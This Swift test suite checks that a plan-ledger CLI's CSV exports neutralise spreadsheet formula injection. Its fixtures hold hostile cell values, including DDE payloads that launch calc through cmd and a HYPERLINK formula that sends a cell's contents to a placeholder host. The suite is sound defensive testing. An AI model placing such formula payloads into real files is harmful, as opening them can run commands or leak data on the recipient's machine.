import Foundation
import LedgerCore
import Testing
import TestSupport

/// SPEC "Fidelity": CSV output neutralises formulas. A text cell beginning with `=`, `+`, `-`, `@`, TAB or CR
/// is written with a leading `'`; numbers stay numbers. Counterparts come from outside senders and
/// registrars open these files in Excel, so every CSV the CLI writes is checked with hostile cells.
@Suite(.serialized) struct CSVInjectionTests {
    let dir: TemporaryDirectory
    let ledger: String

    static let calc = #"@SUM(1+1)*cmd|' /C calc'!A0"#
    static let cmd = #"=cmd|' /C calc'!A0"#
    static let link = #"=HYPERLINK("https://example.invalid/?x="&A1,"Klicka")"#

    init() throws {
        dir = try TemporaryDirectory()
        ledger = dir.path("region.sqlite")
        #expect(try run("init").status == 0)
        func json(_ s: String) -> String { CanonicalJSON.string(.string(s)) }
        let input = """
            {"type":"plan.registered","plan":"p-hostile","effective":"2022-11-01","data":{"title":\(json(Self.link)),"kind":"-rutin","owner":"+Regionstyrelsen","period":{"from":2023,"to":2025}}}
            {"type":"plan.revised","plan":"p-hostile","effective":"2022-12-13","data":{"version":1,"change":"\\tTabb först","approvedBy":"@Regiondirektör","dnr":"-1","content":{"goals":[{"id":"g","perspective":"Ekonomi","text":"=1+1","metrics":[{"id":"budget","name":"+Budget","target":-5,"baseline":"-5","unit":"mnkr","periods":["ÅR"]}]}]}}}
            {"type":"followup.recorded","plan":"p-hostile","effective":"2023-12-31","data":{"metric":"budget","period":"2023-ÅR","outcome":-7.5,"fulfilment":"not-met","comment":"-minskning uteblev"}}
            {"type":"diary.registered","effective":"2023-05-11","data":{"dnr":"RS/9/2023","title":\(json(Self.cmd)),"direction":"in","counterpart":\(json(Self.calc)),"handler":"\\thandläggare"}}
            {"type":"assignment.issued","plan":"p-hostile","effective":"2022-12-13","data":{"assignment":"a-1","title":"=2+2","assignee":"@kansliet","deadline":"2023-06-30","issuedBy":"-RS"}}
            """
        let appended = try run("append", stdin: input, env: ["PLANLEDGER_ACTOR": "@registrator"])
        #expect(appended.status == 0, "\(appended.stderr)")
    }

    func run(_ args: String..., stdin: String = "", env: [String: String] = [:]) throws -> CommandResult {
        try CommandRunner.run(args + ["--ledger", ledger], stdin: Data(stdin.utf8),
                              environment: ["PLANLEDGER_NOW": "2024-01-10T10:00:00Z", "COLUMNS": "160"].merging(env) { $1 })
    }

    /// The CSV's data rows, split by RFC 4180's rules (quoted fields may hold commas and line breaks).
    static func rows(_ csv: String) -> [[String]] {
        var rows: [[String]] = [], row: [String] = [], field = "", quoted = false, i = csv.unicodeScalars.startIndex
        let s = csv.unicodeScalars
        while i < s.endIndex {
            let c = s[i]
            if quoted {
                if c == "\"" {
                    let next = s.index(after: i)
                    if next < s.endIndex, s[next] == "\"" { field += "\""; i = next } else { quoted = false }
                } else { field.unicodeScalars.append(c) }
            } else if c == "\"" { quoted = true } else if c == "," { row.append(field); field = "" } else if c == "\r" {
                // the record separator is CR LF
            } else if c == "\n" { row.append(field); rows.append(row); row = []; field = "" } else { field.unicodeScalars.append(c) }
            i = s.index(after: i)
        }
        return Array(rows.dropFirst())
    }

    /// No text cell of any row may begin with a character a spreadsheet runs.
    static func expectNoFormula(_ rows: [[String]], numbers: Set<String> = [], sourceLocation: SourceLocation = #_sourceLocation) {
        for row in rows {
            for cell in row where !numbers.contains(cell) {
                if let first = cell.unicodeScalars.first {
                    #expect(!"=+-@\t\r".unicodeScalars.contains(first), "formula cell \(cell.debugDescription) in \(row)", sourceLocation: sourceLocation)
                }
            }
        }
    }

    @Test func diaryCounterpartsAndTitlesAreNeutralised() throws {
        let csv = try run("diary", "--format", "csv")
        #expect(csv.status == 0)
        #expect(csv.stdout == "dnr,date,title,direction,counterpart,handler,case,plan,secrecy.ground,archived.date,archived.retention,archived.cullAfter,seq,recorded\r\n"
                + "RS/9/2023,2023-05-11,'=cmd|' /C calc'!A0,in,'@SUM(1+1)*cmd|' /C calc'!A0,'\thandläggare,,,,,,,4,2024-01-10T10:00:00.000Z\r\n")
    }

    @Test func planTitlesOwnersAndKindsAreNeutralised() throws {
        let csv = try run("plans", "--format", "csv")
        let rows = Self.rows(csv.stdout)
        #expect(rows == [["p-hostile", "'-rutin", "'" + Self.link, "'+Regionstyrelsen", "2023-01-01", "2025-12-31", "", "1", "in-force",
                          "2022-12-13", "'@Regiondirektör"]])
        // `show` and `replay` write the same cells in their first plan columns (show's after them, replay's after
        // its section and time point).
        #expect(Self.rows(try run("show", "p-hostile", "--format", "csv").stdout).map { Array($0.prefix(11)) } == rows)
        #expect(Self.rows(try run("replay", "--format", "csv").stdout).filter { $0.first == "plans" }.map { Array($0[4..<15]) } == rows)
    }

    @Test func changeListKeepsNumbersAndNeutralisesText() throws {
        let rows = Self.rows(try run("changes", "p-hostile", "--format", "csv").stdout)
        #expect(rows.count == 1)
        #expect(rows[0][0] == "1")  // version: a number
        #expect(rows[0][2] == "'\tTabb först")
        #expect(rows[0][3] == "'@Regiondirektör")
        #expect(rows[0][4] == "'-1")  // the dnr "-1" is a text, though it looks like a number
    }

    /// A number-typed value stays a number, even negative; the same characters as a text are neutralised.
    @Test func followupNumbersStayNumbers() throws {
        let rows = Self.rows(try run("followups", "p-hostile", "--as-of", "2024-01-01", "--format", "csv").stdout)
        let reported = try #require(rows.first { $0[9] != "" })
        #expect(reported[4] == "'+Budget")
        #expect(reported[5] == "-5")  // target: the JSON number -5
        #expect(reported[6] == "'-5")  // baseline: the text "-5"
        #expect(reported[9] == "-7.5")  // outcome: the number -7.5
        #expect(reported[11] == "'-minskning uteblev")
        Self.expectNoFormula(rows, numbers: ["-5", "-7.5"])
    }

    @Test func everyOtherCSVIsNeutralised() throws {
        let assignments = Self.rows(try run("assignments", "--as-of", "2024-01-01", "--format", "csv").stdout)
        #expect(assignments.first?[2] == "'=2+2")
        #expect(assignments.first?[3] == "'@kansliet")
        #expect(assignments.first?[4] == "'-RS")
        Self.expectNoFormula(assignments)
        let history = Self.rows(try run("history", "p-hostile", "--format", "csv").stdout)
        #expect(history.count == 4)
        #expect(history.allSatisfy { $0[2] == "'@registrator" })
        Self.expectNoFormula(history)
        Self.expectNoFormula(Self.rows(try run("chain", "p-hostile", "--format", "csv").stdout))
        Self.expectNoFormula(Self.rows(try run("audit", "--as-of", "2024-01-01", "--format", "csv").stdout))
        for command in [["diary"], ["plans"], ["replay"], ["changes", "p-hostile"], ["show", "p-hostile"]] {
            let args = command + ["--format", "csv", "--ledger", ledger]
            Self.expectNoFormula(Self.rows(try CommandRunner.run(args, environment: ["PLANLEDGER_NOW": "2024-01-10T10:00:00Z"]).stdout))
        }
    }
}
